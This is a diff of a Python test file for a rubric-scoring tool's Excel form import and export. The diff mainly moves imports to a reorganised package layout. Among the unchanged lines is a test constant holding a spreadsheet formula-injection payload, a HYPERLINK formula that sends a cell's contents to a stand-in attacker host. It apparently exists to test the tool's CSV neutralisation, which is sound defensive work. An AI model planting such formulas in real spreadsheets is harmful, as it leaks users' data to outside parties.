@@ -9,11 +9,18 @@ from pathlib import Path
 import openpyxl
 import pytest
 
-from workbench.errors import InputFileError, ValidationFailed
-from workbench.excelform import COL, HEADER_ROW, SHEET, export_form, import_form, neutralise_csv
-from workbench.paths import RUBRICS_DIR
-from workbench.rubric import load_rubric
-from workbench.store import LockedError, Store
+from workbench.core.errors import InputFileError, ValidationFailed
+from workbench.core.paths import RUBRICS_DIR
+from workbench.rubric.model import load_rubric
+from workbench.scoring.excelform import (
+    COL,
+    HEADER_ROW,
+    SHEET,
+    export_form,
+    import_form,
+    neutralise_csv,
+)
+from workbench.scoring.store import LockedError, Store
 
 DATA = Path(__file__).parent / "data" / "scoring"
 INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
@@ -209,7 +216,7 @@ def test_real_rubric_form(tmp_path, store):
                      "due": datetime(2025, 9, 30)}
     aid = import_form(_fill(form, tmp_path / "f.xlsx", values), "oakwood", store,
                       rubric=rubric)
-    from workbench.assessment import finalise_problems, scores
+    from workbench.scoring.assessment import finalise_problems, scores
 
     assert str(scores(rubric, store.load(aid))) == "84/85"
     assert finalise_problems(rubric, store.load(aid)) == []
